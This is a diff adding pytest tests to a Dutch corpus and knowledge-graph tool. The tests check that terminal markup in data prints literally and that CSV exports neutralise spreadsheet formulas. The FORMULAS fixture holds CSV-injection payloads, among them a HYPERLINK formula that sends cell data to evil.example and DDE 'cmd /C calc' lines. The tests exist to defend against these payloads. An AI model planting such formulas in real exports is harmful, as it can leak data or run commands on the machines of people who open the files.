@@ -492,3 +492,230 @@ def test_the_harness_sees_a_payload_that_runs(chromium, tmp_path):
         page.goto(control.resolve().as_uri())
         page.wait_for_function("window.__pwned === 1", timeout=5000)
     page.close()
+
+
+# --------------------------------------------------------------------------- the terminal
+#
+# rich reads "[...]" in a string as markup: a label "[/x]" made `cases`, `case list` and
+# `concepts` exit 70 (MarkupError), "[link=...]" became a clickable link, and `query` tables
+# dropped "[sic]" from a verbatim quote. Data is printed as Text, never as markup.
+
+MARKUP = [
+    "[/x]",
+    "[link=https://evil.example/]klik[/link]",
+    "[bold red]vet[/]",
+    "[sic]",
+    "\\[al ontsnapt]",
+    ":thumbs_up: :smile:",
+    "[[dubbel]] [",
+    "eindigt op \\",
+]
+MARKUP_TEXT = " ".join(MARKUP)
+# Cells a spreadsheet would run as a formula (OWASP's CSV injection examples and variants):
+# each is a line of the source, a quote of the case, and a label or name somewhere.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\uff1d1+1",
+    "a;=1+1;b",
+    '"=1+1"',
+    "'=1+1",
+    "=",
+]
+
+
+def _both() -> dict:
+    return {"nl": MARKUP_TEXT, "en": MARKUP_TEXT}
+
+
+def markup_corpus(dest: Path) -> None:
+    for name in ("cases", "ontology", "sources", "queries"):
+        shutil.copytree(ROOT / name, dest / name)
+    (dest / "sources" / "texts" / "haken.txt").write_text(
+        "Een bron met haken.\n" + "\n".join(MARKUP + FORMULAS) + "\n", encoding="utf-8")
+    (dest / "sources" / "haken.yaml").write_text(yaml.safe_dump({
+        "id": "haken", "text": "texts/haken.txt", "type": "report", "title": MARKUP_TEXT,
+        "year": 2024}, allow_unicode=True), encoding="utf-8")
+    (dest / "ontology" / "concepts" / "haken.yaml").write_text(yaml.safe_dump({"concepts": [{
+        "id": "haken-begrip", "kind": "risk-factor",
+        "label": _both(),
+        "definition": _both(), "source": "haken", "lines": 2}]},
+        allow_unicode=True), encoding="utf-8")
+    ev = [{"source": "haken", "lines": i + 2, "quote": m} for i, m in enumerate(MARKUP)]
+    case = {"id": "haken-casus", "label": _both(),
+            "summary": _both(),
+            "period": {"start": "2024", "note": MARKUP_TEXT},
+            "organisations": [{"id": "gemeente-haken", "name": MARKUP_TEXT, "level": "gemeente"}],
+            "actors": [{"id": "a", "role": "gemeentesecretaris", "organisation": "gemeente-haken",
+                        "label": _both()}],
+            "findings": [{"concept": "haken-begrip", "evidence": ev, "note": MARKUP_TEXT}],
+            "events": [{"date": "2024-05", "label": _both(),
+                        "evidence": [dict(e) for e in ev[:2]]},
+                       {"date": "2024-06", "label": {"nl": FORMULAS[0], "en": FORMULAS[3]},
+                        "evidence": [{"source": "haken", "lines": len(MARKUP) + 2 + i,
+                                      "quote": f} for i, f in enumerate(FORMULAS)]}]}
+    case["organisations"].append({"id": "formule", "name": FORMULAS[2], "level": "overig"})
+    (dest / "cases" / "haken-casus.yaml").write_text(
+        yaml.safe_dump(case, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    formula = {"id": "formule-casus", "label": {"nl": FORMULAS[1], "en": FORMULAS[3]},
+               "summary": {"nl": FORMULAS[0], "en": FORMULAS[2]},
+               "organisations": [{"id": "formule", "name": FORMULAS[2], "level": "overig"}],
+               "findings": [{"concept": "haken-begrip", "evidence": [
+                   {"source": "haken", "lines": len(MARKUP) + 2, "quote": FORMULAS[0]}]}]}
+    (dest / "cases" / "formule-casus.yaml").write_text(
+        yaml.safe_dump(formula, allow_unicode=True, sort_keys=False), encoding="utf-8")
+
+
+@pytest.fixture(scope="module")
+def markup(tmp_path_factory) -> dict:
+    root = tmp_path_factory.mktemp("markup")
+    corpus, build = root / "corpus", root / "build"
+    markup_corpus(corpus)
+    run = _pav(corpus, build, "build", "-q", "--no-reason", "--no-shacl")
+    assert run.returncode == 0, run.stdout + run.stderr
+    return {"corpus": corpus, "build": build}
+
+
+_SGR = __import__("re").compile(r"\x1b\[[0-9;]*m")
+
+
+@pytest.mark.parametrize("args,shown", [
+    (("cases",), [MARKUP_TEXT]),
+    (("case", "list"), [MARKUP_TEXT]),
+    (("concepts",), [MARKUP_TEXT]),
+    (("show", "haken-casus"), MARKUP),
+    (("show", "haken-casus", "--lang", "en"), MARKUP),
+    (("query", "search-quotes", "--param", "text=sic"), ["[sic]"]),
+    (("query", "search-quotes", "--param", "text=link"), [MARKUP[1]]),
+    (("query", "case-findings", "--param", "case=haken-casus"), MARKUP),
+    (("similar", "haken-casus"), []),
+    (("patterns",), []),
+], ids=lambda v: " ".join(v) if isinstance(v, tuple) else "")
+@pytest.mark.parametrize("color", ["plain", "forced"])
+def test_data_is_never_terminal_markup(markup, args, shown, color):
+    """Each listing prints the bracketed text exactly, as plain output and as a colour
+    terminal (FORCE_COLOR): no MarkupError, no hyperlink escape (OSC 8), no emoji."""
+    env = dict(os.environ, PYTHONPATH=str(ROOT), PAV_GRAPH_BUILD=str(markup["build"]),
+               COLUMNS="1000", LINES="100")
+    env.pop("PAV_GRAPH_CORPUS", None)
+    if color == "forced":
+        env["FORCE_COLOR"] = "1"
+    else:
+        env.pop("FORCE_COLOR", None)
+        env["NO_COLOR"] = "1"
+    run = subprocess.run([sys.executable, "-m", "pav_graph", "--corpus", str(markup["corpus"]),
+                          *args], env=env, capture_output=True, text=True, timeout=300,
+                         check=False)
+    out = run.stdout + run.stderr
+    assert run.returncode == 0, out
+    assert "Traceback" not in out and "internal error" not in out
+    assert "\x1b]8;" not in out  # no terminal hyperlink
+    assert "👍" not in out and "😄" not in out
+    plain = _SGR.sub("", out)
+    for text in shown:
+        assert text in plain, (text, plain[-2000:])
+
+
+# --------------------------------------------------------------------------- spreadsheets
+
+
+def _formula_like(value: str) -> bool:
+    """A spreadsheet would run this cell: it starts (after any quote characters, which a
+    misaligned reader leaves in) with a formula character and is not a plain number."""
+    from pav_graph.spreadsheet import FORMULA_START
+
+    bare = value.lstrip('"')
+    try:
+        float(bare.rstrip('"'))
+        return False
+    except ValueError:
+        return bool(bare) and bare[0] in FORMULA_START
+
+
+def _cells(raw: bytes, delimiter: str) -> list[list[str]]:
+    import csv
+    import io
+
+    assert raw.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))
+
+
+def _assert_spreadsheet_safe(raw: bytes) -> list[list[str]]:
+    """No cell runs as a formula: read with ',' (the file's delimiter), with ';' (what a Dutch
+    spreadsheet splits on), or cut at every ',', ';' and line break of the raw text (any way
+    a reader could misalign). Returns the rows with the exact text restored."""
+    import re
+
+    from pav_graph.spreadsheet import original
+
+    for delimiter in (",", ";"):
+        bad = [c for row in _cells(raw, delimiter) for c in row if _formula_like(c)]
+        assert not bad, (delimiter, bad[:5])
+    pieces = re.split(r"\r\n|[,;\n]", raw.decode("utf-8-sig"))
+    bad = [p for p in pieces if _formula_like(p)]
+    assert not bad, bad[:5]
+    return [[original(c) for c in row] for row in _cells(raw, ",")]
+
+
+def test_csv_export_neutralises_formulas(markup, tmp_path):
+    out = tmp_path / "tables"
+    run = _pav(markup["corpus"], markup["build"], "export", "--format", "csv", str(out))
+    assert run.returncode == 0, run.stdout + run.stderr
+    found: set[str] = set()
+    for table in sorted(out.glob("*.csv")):
+        found |= {c for row in _assert_spreadsheet_safe(table.read_bytes()) for c in row}
+    assert set(FORMULAS) <= found  # every quote is there, exactly, once the mark is dropped
+    assert {FORMULAS[0], FORMULAS[2]} <= found  # the event label, the organisation name
+
+
+@pytest.mark.parametrize("args", [
+    ("query", "search-quotes", "--param", "text=1+1", "--format", "csv"),
+    ("query", "timeline", "--format", "csv"),
+    ("cases", "--format", "csv"),
+])
+def test_query_csv_neutralises_formulas(markup, args):
+    env = dict(os.environ, PYTHONPATH=str(ROOT), PAV_GRAPH_BUILD=str(markup["build"]))
+    env.pop("PAV_GRAPH_CORPUS", None)
+    run = subprocess.run([sys.executable, "-m", "pav_graph", "--corpus", str(markup["corpus"]),
+                          *args], env=env, capture_output=True, timeout=300, check=False)
+    assert run.returncode == 0, run.stderr
+    rows = _assert_spreadsheet_safe(run.stdout)
+    values = {c for row in rows for c in row}
+    if "search-quotes" in args:
+        assert {f for f in FORMULAS if "1+1" in f} <= values
+    elif "timeline" in args:
+        assert FORMULAS[0] in values
+    else:
+        assert {FORMULAS[1], FORMULAS[3]} <= values  # the labels
+
+
+def test_endpoint_csv_stays_exact(markup):
+    """The endpoint's text/csv is the W3C SPARQL 1.1 CSV results format: exact, no marks."""
+    import csv
+    import io
+
+    port = free_port()
+    env = dict(os.environ, PYTHONPATH=str(ROOT))
+    proc = subprocess.Popen([sys.executable, "-m", "pav_graph", "serve", "--build-dir",
+                             str(markup["build"]), "--port", str(port)],
+                            env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        text = ("PREFIX pg: <https://w3id.org/pav-graph/ontology#> "
+                "SELECT ?q WHERE { ?e pg:quote ?q } ORDER BY ?q")
+        deadline = time.monotonic() + 60
+        while True:
+            try:
+                status, body = query(port, text, "text/csv")
+                break
+            except OSError:
+                assert time.monotonic() < deadline and proc.poll() is None
+                time.sleep(0.3)
+        assert status == 200
+        values = {row[0] for row in csv.reader(io.StringIO(body.decode("utf-8"), newline=""))}
+        assert set(FORMULAS) <= values
+    finally:
+        proc.terminate()
+        proc.wait(15)
